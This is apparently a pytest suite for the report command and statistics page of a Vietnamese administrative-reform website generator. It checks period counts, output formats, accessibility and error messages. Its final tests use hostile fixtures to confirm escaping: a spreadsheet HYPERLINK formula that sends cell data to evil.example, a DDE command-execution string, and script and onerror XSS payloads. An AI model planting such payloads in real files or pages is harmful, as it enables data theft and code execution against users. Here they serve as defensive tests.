"""`python build.py report` and the public statistics page thong-ke/, checked against a generated
section whose dates, categories, authors, documents and citations are known in advance."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from conftest import REPO, SiteFolder, cli, cli_process, need

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
VNU = REPO / "node_modules" / "vnu-jar" / "build" / "dist" / "vnu.jar"
AXE = REPO / "node_modules" / "axe-core" / "axe.min.js"
CHROMIUM = Path("/usr/bin/chromium")
THIS_YEAR = dt.datetime.now(TZ).year

SITE_YAML = """\
title: "Cải cách hành chính - Sở Thử nghiệm"
base_url: "https://example.gov.vn/cchc/"
timezone: Asia/Ho_Chi_Minh
organization: {name: "Sở Thử nghiệm"}
categories:
  - {key: tin-hoat-dong, name: "Tin hoạt động"}
  - {key: chinh-sach, name: "Chính sách"}
  - {key: chua-co-bai, name: "Chuyên mục chưa có bài"}
document_types: [Luật, Nghị định, Quyết định, Kế hoạch]
"""
AUTHORS = ["Văn phòng Sở", "Phòng Quản lý thương mại", ""]

# (front-matter date, the day it is in the site's time zone, category, author) of every
# published article. The boundary cases: 23:30 on 31 March (+07:00) is still the first
# quarter; 17:30 UTC on 31 March is already 1 April in Vietnam; 17:30 UTC on 31 December
# 2020 is New Year's Day 2021 there.
ARTICLES = [
    ('"2021-03-31 23:30"', dt.date(2021, 3, 31), "chinh-sach", "Văn phòng Sở"),
    ("2021-03-31T17:30:00Z", dt.date(2021, 4, 1), "tin-hoat-dong", "Văn phòng Sở"),
    ("2020-12-31T17:30:00Z", dt.date(2021, 1, 1), "tin-hoat-dong", ""),
    ('"2020-12-31 23:59"', dt.date(2020, 12, 31), "chinh-sach", "Văn phòng Sở"),
    ('"2021-12-31 23:59"', dt.date(2021, 12, 31), "chinh-sach", "Phòng Quản lý thương mại"),
    ('"30/06/2021"', dt.date(2021, 6, 30), "tin-hoat-dong", "Văn phòng Sở"),
] + [
    (f"2021-{m:02d}-{d:02d}", dt.date(2021, m, d), ("tin-hoat-dong", "chinh-sach")[(m + d) % 2], AUTHORS[(m * d) % 3])
    for m in range(1, 13) for d in (3, 11, 19)[: 1 + m % 3]
] + [
    (f'"{THIS_YEAR - 1}-05-05"', dt.date(THIS_YEAR - 1, 5, 5), "chinh-sach", "Văn phòng Sở"),
    (f'"{THIS_YEAR - 1}-05-06"', dt.date(THIS_YEAR - 1, 5, 6), "chinh-sach", "Văn phòng Sở"),
    (f'"{THIS_YEAR - 1}-07-07"', dt.date(THIS_YEAR - 1, 7, 7), "tin-hoat-dong", ""),
    (f'"{THIS_YEAR}-01-01 00:00"', dt.date(THIS_YEAR, 1, 1), "tin-hoat-dong", "Văn phòng Sở"),
]
# Documents: (file, symbol, type, issued, extra front matter, status label the build computes today).
DOCUMENTS = [
    ("nd-10", "10/2021/NĐ-CP", "Nghị định", "2021-02-01", {"effective": "2021-03-20"}, "Còn hiệu lực"),
    ("nd-20", "20/2021/NĐ-CP", "Nghị định", "2021-05-10", {"effective": "2021-05-10", "expires": "2021-12-31"},
     "Hết hiệu lực"),
    ("kh-5", "5/KH-SCT", "Kế hoạch", "2021-01-05", {}, "Chưa xác định"),
    ("qd-7", "7/QĐ-SCT", "Quyết định", "2021-11-02", {"effective": "2099-01-01"}, "Chưa có hiệu lực"),
    ("nd-61", "61/2018/NĐ-CP", "Nghị định", "2018-04-23", {"effective": "2018-06-21"}, "Còn hiệu lực"),
]
# Article index -> cited document symbol (in its `documents:` list).
CITES = {0: "10/2021/NĐ-CP", 1: "10/2021/NĐ-CP", 6: "61/2018/NĐ-CP", 7: "10/2021/NĐ-CP", 9: "5/KH-SCT"}


def quarter_of(day: dt.date) -> int:
    return (day.month - 1) // 3 + 1


def expected(year: int, quarter: int | None = None) -> list[int]:
    """Indexes of ARTICLES a report of the period must count."""
    return [i for i, (_, day, _, _) in enumerate(ARTICLES)
            if day.year == year and (quarter is None or quarter_of(day) == quarter)]


@pytest.fixture(scope="module")
def section(tmp_path_factory) -> SiteFolder:
    root = tmp_path_factory.mktemp("report") / "site"
    root.mkdir()
    shutil.copytree(REPO / "layouts", root / "layouts")
    s = SiteFolder(root)
    s.write("site.yaml", SITE_YAML)
    for i, (date, _, category, author) in enumerate(ARTICLES):
        extra = {"author": f'"{author}"'} if author else {}
        if i in CITES:
            extra["documents"] = f'["{CITES[i]}"]'
        s.article(f"a{i:03d}", title=f"Bài số {i}", date=date, category=category, **extra)
    s.article("nhap", title="Bản nháp", date="2021-02-02", draft="true")
    s.article("hen-gio", title="Bài hẹn giờ", date="2099-05-05")
    for name, symbol, type_, issued, extra, _ in DOCUMENTS:
        s.document(name, symbol, type_, issued, **extra)
    return s


def report(section: SiteFolder, tmp: Path, *args: str, fmt: str = "md") -> str:
    out = tmp / f"report.{fmt}"
    run = cli("report", *args, "--format", fmt, "-o", str(out), site=section.root)
    assert run.code == 0, run.err
    assert "Traceback" not in run.err
    return out.read_text(encoding="utf-8-sig")


def md_table(text: str, title: str) -> dict[str, list[str]]:
    """The Markdown table under the heading that ends with `title`: first cell -> other cells."""
    section = re.search(rf"^## \d+\. {re.escape(title)}\n\n(.*?)(?:\n\n|\Z)", text, re.S | re.M)
    assert section, f"no section {title!r} in\n{text}"
    lines = [line for line in section.group(1).splitlines() if line.startswith("|")]
    rows = [[c.strip().strip("*") for c in re.split(r"(?<!\\)\|", line)[1:-1]] for line in lines]
    return {r[0]: r[1:] for r in rows[2:]}


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


# --- counts --------------------------------------------------------------------------------

@pytest.mark.parametrize("quarter", [None, 1, 2, 3, 4])
def test_articles_of_a_period_are_the_ones_dated_in_it_in_the_site_time_zone(section, tmp_path, quarter):
    args = ["--year", "2021"] + (["--quarter", str(quarter)] if quarter else [])
    rows = csv_rows(report(section, tmp_path, *args, fmt="csv"))
    want = expected(2021, quarter)
    assert [r["Tiêu đề"] for r in rows] == [f"Bài số {i}" for i in sorted(want, key=lambda i: ARTICLES[i][1])]
    assert [r["Ngày đăng"] for r in rows] == sorted(ARTICLES[i][1].isoformat() for i in want)


def test_quarter_boundaries(section, tmp_path):
    q1 = [r["Tiêu đề"] for r in csv_rows(report(section, tmp_path, "--year", "2021", "--quarter", "1", fmt="csv"))]
    q2 = [r["Tiêu đề"] for r in csv_rows(report(section, tmp_path, "--year", "2021", "--quarter", "2", fmt="csv"))]
    assert "Bài số 0" in q1 and "Bài số 0" not in q2        # 2021-03-31 23:30 +07:00
    assert "Bài số 1" in q2 and "Bài số 1" not in q1        # 2021-03-31 17:30 UTC = 1 April in Vietnam
    assert "Bài số 2" in q1                                 # 2020-12-31 17:30 UTC = 1 January 2021
    y2020 = [r["Tiêu đề"] for r in csv_rows(report(section, tmp_path, "--year", "2020", fmt="csv"))]
    assert y2020 == ["Bài số 3"]


def test_markdown_counts_per_category_month_author(section, tmp_path):
    text = report(section, tmp_path, "--year", "2021")
    want = expected(2021)
    by_category = Counter(ARTICLES[i][2] for i in want)
    categories = md_table(text, "Bài viết theo chuyên mục")
    assert categories["Tin hoạt động"][0] == str(by_category["tin-hoat-dong"])
    assert categories["Chính sách"][0] == str(by_category["chinh-sach"])
    assert categories["Chuyên mục chưa có bài"] == ["0", "0,0%"]
    assert "Chuyên mục chưa có bài trong kỳ: Chuyên mục chưa có bài." in text
    share = f"{100 * by_category['chinh-sach'] / len(want):.1f}".replace(".", ",") + "%"
    assert categories["Chính sách"][1] == share
    assert categories["Tổng cộng"][0] == str(len(want))

    months = md_table(text, "Bài viết theo tháng")
    by_month = Counter(ARTICLES[i][1].month for i in want)
    assert {k: int(v[0]) for k, v in months.items()} == {
        **{f"Tháng {m:02d}/2021": by_month[m] for m in range(1, 13)}, "Tổng cộng": len(want)}

    authors = md_table(text, "Bài viết theo tác giả, đơn vị")
    by_author = Counter(ARTICLES[i][3] or "(không ghi tác giả)" for i in want)
    assert {k: int(v[0]) for k, v in authors.items() if k != "Tổng cộng"} == dict(by_author)
    assert list(authors)[0] == by_author.most_common(1)[0][0]

    summary = md_table(text, "Tổng hợp")
    assert summary["Bài viết đã đăng"] == [str(len(want))]
    assert summary["Không tính: bài nháp"] == ["1"]       # the draft is dated 2021-02-02
    assert summary["Không tính: bài hẹn giờ đăng"] == ["0"]  # the future one is dated 2099


def test_markdown_documents_by_type_and_status_and_citations(section, tmp_path):
    text = report(section, tmp_path, "--year", "2021")
    legal = md_table(text, "Văn bản ban hành trong kỳ, theo loại và tình trạng hiệu lực")
    header = re.search(r"^\| Loại văn bản \|.*$", text, re.M).group(0)
    columns = [c.strip() for c in header.split("|")[2:-1]]
    issued_2021 = [d for d in DOCUMENTS if d[3].startswith("2021")]
    for type_ in {d[2] for d in issued_2021}:
        cells = dict(zip(columns, legal[type_]))
        mine = [d for d in issued_2021 if d[2] == type_]
        assert cells["Tổng"] == str(len(mine))
        for label, n in Counter(d[5] for d in mine).items():
            assert cells[label] == str(n), (type_, label)
    assert "Luật" not in legal                              # no Luật issued: no empty row
    assert dict(zip(columns, legal["Tổng cộng"]))["Tổng"] == str(len(issued_2021))
    assert "ngày ban hành" in text                          # the footnote says what "added" means

    citations = md_table(text, "Văn bản được bài viết trong kỳ trích dẫn")
    want = set(expected(2021))
    cited = Counter(CITES[i] for i in CITES if i in want)
    assert {k: int(v[-1]) for k, v in citations.items()} == {
        f"{next(d[2] for d in DOCUMENTS if d[1] == s)} {s}": n for s, n in cited.items()}


def test_a_period_without_articles_says_so(section, tmp_path):
    run = cli("report", "--year", "2019", site=section.root)
    assert run.code == 0, run.err
    assert "Không có bài viết nào được đăng trong kỳ." in run.out
    assert re.search(r"Bài viết đã đăng\s+0\b", run.out)
    assert re.search(r"Không tính: bài hẹn giờ đăng\s+0\b", run.out)
    rows = csv_rows(report(section, tmp_path, "--year", "2019", fmt="csv"))
    assert rows == []
    html = report(section, tmp_path, "--year", "2019", fmt="html")
    assert "<svg" not in html and "Không có bài viết nào được đăng trong kỳ." in html


def test_future_articles_are_left_out_and_counted(section, tmp_path):
    text = report(section, tmp_path, "--from", "2099-01-01", "--to", "31/12/2099")
    summary = md_table(text, "Tổng hợp")
    assert summary["Bài viết đã đăng"] == ["0"] and summary["Không tính: bài hẹn giờ đăng"] == ["1"]
    assert "**Kỳ báo cáo:** Từ ngày 01/01/2099 đến ngày 31/12/2099" in text


# --- formats -------------------------------------------------------------------------------

def test_csv_is_for_excel(section, tmp_path):
    out = tmp_path / "bao-cao.csv"
    assert cli("report", "--year", "2021", "--format", "csv", "-o", str(out), site=section.root).code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = csv_rows(raw.decode("utf-8-sig"))
    assert list(rows[0]) == ["STT", "Ngày đăng", "Giờ", "Tiêu đề", "Chuyên mục", "Tác giả, đơn vị",
                             "Văn bản trích dẫn", "Địa chỉ"]
    first = rows[0]                                          # Bài số 2: 1 January 2021, 00:30 in Vietnam
    assert (first["STT"], first["Ngày đăng"], first["Giờ"], first["Chuyên mục"]) == ("1", "2021-01-01", "00:30",
                                                                                       "Tin hoạt động")
    assert first["Địa chỉ"].startswith("https://example.gov.vn/cchc/tin-tuc/")
    by_title = {r["Tiêu đề"]: r for r in rows}
    assert by_title["Bài số 0"]["Văn bản trích dẫn"] == "Nghị định 10/2021/NĐ-CP"
    assert len(rows) == len(expected(2021))


def svg_bars(html: str) -> list[list[tuple[str, float, int]]]:
    """Every chart of a page: [(label, bar width, value shown)]."""
    charts = []
    for chunk in re.findall(r"<svg\b.*?</svg>", html, re.S):
        svg = ET.fromstring(chunk)
        assert svg.get("role") == "img" and svg.get("aria-label") and svg.find("title").text
        kids = [k for k in svg if k.tag in ("text", "rect")]
        charts.append([(kids[i].text, float(kids[i + 1].get("width")), int(kids[i + 2].text.replace(".", "")))
                       for i in range(0, len(kids), 3)])
    return charts


def assert_proportional(bars: list[tuple[str, float, int]]) -> None:
    top = max(v for _, _, v in bars)
    longest = max(w for _, w, _ in bars)
    for label, width, value in bars:
        assert width == pytest.approx(longest * value / top, abs=0.02), label


def test_html_report_has_proportional_bars(section, tmp_path):
    html = report(section, tmp_path, "--year", "2021", fmt="html")
    assert "<script" not in html and '<html lang="vi">' in html
    charts = svg_bars(html)
    assert len(charts) == 5          # categories, months, authors, document types, citations
    for bars in charts:
        assert_proportional(bars)
    want = expected(2021)
    by_category = Counter(ARTICLES[i][2] for i in want)
    assert charts[0] == [("Tin hoạt động", pytest.approx(charts[0][0][1]), by_category["tin-hoat-dong"]),
                         ("Chính sách", pytest.approx(charts[0][1][1]), by_category["chinh-sach"]),
                         ("Chuyên mục chưa có bài", 0, 0)]
    assert [v for _, _, v in charts[1]] == [Counter(ARTICLES[i][1].month for i in want)[m] for m in range(1, 13)]


def validate_html(*paths: Path) -> None:
    need(VNU.exists() and shutil.which("java") is not None, "vnu.jar and java (run npm install)")
    p = subprocess.run(["java", "-jar", str(VNU), "--format", "gnu", "--also-check-svg", *map(str, paths)],
                       capture_output=True, text=True, encoding="utf-8", timeout=180)
    assert p.returncode == 0 and not p.stderr.strip(), p.stderr


# --- the public page -----------------------------------------------------------------------

@pytest.fixture(scope="module")
def built(section) -> SiteFolder:
    run = section.build("--quiet")
    assert run.code == 0, run.err
    return section


def test_statistics_page_shows_this_year_and_last_year(built):
    page = built.read("thong-ke/index.html")
    assert f'id="nam-{THIS_YEAR}"' in page and f'id="nam-{THIS_YEAR - 1}"' in page
    assert f'id="nam-{THIS_YEAR - 2}"' not in page
    this_year = page.split(f'<h2 id="nam-{THIS_YEAR}">', 1)[1].split("</section>")[0]
    last_year = page.split(f'<h2 id="nam-{THIS_YEAR - 1}">', 1)[1].split("</section>")[0]
    assert f"<p>{len(expected(THIS_YEAR))} bài viết," in this_year
    assert f"<p>{len(expected(THIS_YEAR - 1))} bài viết," in last_year
    assert "Kỳ báo cáo chưa kết thúc" in this_year and "Kỳ báo cáo chưa kết thúc" not in last_year
    for bars in svg_bars(page):
        assert_proportional(bars)
    assert '<table class="documents stats">' in page       # the charts' text alternative
    assert 'href="../thong-ke/"' in built.read("tin-tuc/index.html")    # footer link
    assert 'href="thong-ke/"' in built.read("index.html")
    assert f"{built.root.as_posix()}" not in page


def test_statistics_page_and_report_pass_nu_and_axe(built, tmp_path):
    """One Nu run and one browser for both (tests/test_quality.py checks the sample's page too)."""
    assert report(built, tmp_path, "--year", "2021", fmt="html")
    pages = [built.root / "output" / "thong-ke" / "index.html", tmp_path / "report.html"]
    validate_html(*pages)
    need(AXE.exists() and CHROMIUM.exists(), "axe-core (npm install) and Debian chromium")
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--no-first-run", "--disable-sync"])
        try:
            for path in pages:
                page = browser.new_page(viewport={"width": 390, "height": 844})
                page.goto(path.as_uri())
                page.add_script_tag(path=str(AXE))
                result = page.evaluate("axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']})")
                assert [(v["id"], [n["target"] for n in v["nodes"]]) for v in result["violations"]] == [], path
        finally:
            browser.close()


# --- errors --------------------------------------------------------------------------------

@pytest.mark.parametrize("args, says", [
    (["--year", "2021", "--quarter", "5"], "--quarter 5: a year has quarters 1, 2, 3 and 4"),
    (["--quarter", "2"], "--quarter needs --year"),
    (["--from", "2021-06-30", "--to", "2021-01-01"], "--from 30/06/2021 is after --to 01/01/2021"),
    (["--from", "31/02/2021", "--to", "2021-03-01"], '--from: "31/02/2021" is not a real date'),
    (["--from", "2021-01-01"], "--from and --to go together"),
    (["--year", "2021", "--from", "2021-01-01", "--to", "2021-02-01"], "cannot be combined"),
    (["--format", "pdf"], "--format pdf: unknown format"),
])
def test_impossible_periods_are_usage_errors(section, args, says):
    run = cli("report", *args, site=section.root)
    assert run.code == 2
    assert run.out == ""
    assert run.err.startswith("build.py report: error: ") and says in run.err and "(" in run.err


def test_impossible_period_in_a_real_process_has_no_traceback(section):
    run = cli_process("report", "--year", "2021", "--quarter", "5", cwd=section.root)
    assert run.code == 2 and "Traceback" not in run.err
    assert run.err.strip() == ("build.py report: error: --quarter 5: a year has quarters 1, 2, 3 and 4 "
                               "(e.g. --year 2021 --quarter 1)")


def test_content_errors_stop_the_report(site):
    site.article("hong", title="Bài hỏng", date="31/02/2021")
    run = cli("report", "--year", "2021", site=site.root)
    assert run.code == 1 and run.out == ""
    assert 'content/articles/hong.md:3: error: date: "31/02/2021" is not a real date' in run.err
    assert "No report" in run.err


def test_default_file_name_and_unwritable_file(site, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run = cli("report", "--year", "2021", "--quarter", "1", "--format", "csv", site=site.root)
    assert run.code == 0 and "bao-cao-cchc-2021-quy-1.csv" in run.err
    assert "Bài đầu tiên" in (tmp_path / "bao-cao-cchc-2021-quy-1.csv").read_text(encoding="utf-8-sig")
    (tmp_path / "thu-muc.html").mkdir()          # a folder where the file should go: cannot be written
    run = cli("report", "--year", "2021", "--format", "html", "-o", "thu-muc.html", site=site.root)
    assert run.code == 1 and run.err.startswith("thu-muc.html: error: cannot write the report")


# --- cells that a spreadsheet or a Markdown viewer would run (issue 19, item 5) ----------------

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
HOSTILE_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(site):
    from conftest import MINIMAL_SITE_YAML
    site.write("site.yaml", MINIMAL_SITE_YAML.replace('name: "Chính sách"', 'name: "-2+3 Chính sách"'))
    site.write("content/articles/2021/cong-thuc.md", f"""\
        ---
        title: '{HOSTILE_TITLE}'
        date: 2021-03-01
        category: chinh-sach
        author: "{HOSTILE_AUTHOR}"
        ---

        Nội dung.
        """)
    site.write("content/articles/2021/the-html.md", """\
        ---
        title: "<img src=x onerror=alert(1)> Tin"
        date: 2021-03-02
        category: tin-hoat-dong
        author: "<script>alert(1)</script> Văn phòng"
        ---

        Nội dung.
        """)
    return site


def test_csv_cells_never_start_a_formula(hostile, tmp_path):
    """OWASP (CSV injection): a cell starting with =, +, -, @, tab or CR is text, prefixed with '."""
    rows = csv_rows(report(hostile, tmp_path, "--year", "2021", fmt="csv"))
    formula = [(k, v) for r in rows for k, v in r.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not formula, formula
    by_title = {r["Tiêu đề"]: r for r in rows}
    row = by_title["'" + HOSTILE_TITLE]
    assert row["Tác giả, đơn vị"] == "'" + HOSTILE_AUTHOR
    assert row["Chuyên mục"] == "'-2+3 Chính sách"


def test_markdown_report_escapes_html(hostile, tmp_path):
    text = report(hostile, tmp_path, "--year", "2021", fmt="md")
    assert "<img" not in text and "<script" not in text, text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Văn phòng" in text
